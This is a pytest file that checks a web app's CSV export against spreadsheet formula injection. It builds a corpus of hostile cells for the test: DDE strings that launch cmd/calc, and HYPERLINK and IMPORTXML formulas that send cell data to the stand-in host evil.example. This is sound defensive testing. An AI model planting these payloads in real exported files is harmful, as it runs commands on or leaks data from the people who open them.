from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from web.csv import csv_cell, csv_text


@pytest.mark.parametrize(
    "text", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=1", "\r=1", "|x", "%x", '=HYPERLINK("http://x")']
)
def test_a_cell_that_a_spreadsheet_would_run_is_quoted(text):
    assert csv_cell(text).startswith("'")


@pytest.mark.parametrize(
    ("value", "cell"), [(None, ""), (-3, "-3"), ("-0.25", "-0.25"), (1.5, "1.5"), ("plain", "plain")]
)
def test_numbers_stay_numbers_and_nothing_is_empty(value, cell):
    assert csv_cell(value) == cell


def test_invisible_characters_get_a_face():
    assert csv_cell("invoice\u202egnp.exe\x07") == "invoice[U+202E]gnp.exe[U+0007]"


SIGNS = ("=", "+", "-", "@", "|", "%", "\t=", "\r=", "\n=", " =", "\u3000=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"open")',
    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "WEBSERVICE(A1)",
    "2+5+cmd|'/C calc'!A0",
    'DDE("cmd";"/C calc";"!A0")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
WRAPPINGS = ("{}", "a;{}", 'a";{}', "a\n{}", "a\t{}", 'x"\r\n{}', "a; {}", '";"{}')
CORPUS = [wrap.format(sign + body) for wrap in WRAPPINGS for sign in SIGNS for body in BODIES]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_s7_no_cell_of_the_corpus_is_a_formula_whatever_separates(separator):
    """Spreadsheets read a CSV with the separator of their country; none may find a formula, not even inside a cell."""
    assert len(CORPUS) > 1_000
    text = csv_text(("id", "said", "after"), [(n, cell, "end") for n, cell in enumerate(CORPUS)])
    rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=separator))
    found = [
        cell
        for row in rows
        for cell in row
        if cell.strip()[:1] in set("=+-@|%\uff1d\uff0b\uff0d\uff20") - {""} and cell.strip()
    ]
    assert found == []


def test_s7_what_was_said_can_be_read_back():
    text = csv_text(("id", "said"), list(enumerate(CORPUS)))
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))[1:]
    assert [int(number) for number, _ in rows] == list(range(len(CORPUS)))
    for (_, cell), said in zip(rows, CORPUS, strict=True):
        assert cell.replace("'", "") == said.replace("'", "")


@settings(deadline=None)
@given(st.lists(st.lists(st.text(max_size=12), min_size=2, max_size=2), max_size=5))
def test_any_text_stays_in_its_cell(rows):
    text = csv_text(("a", "b"), rows)
    assert text.startswith("\ufeff")
    read = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert [len(r) for r in read] == [2] * (len(rows) + 1)
    assert not any(cell[:1] in "=+@|%" for row in read for cell in row if cell)
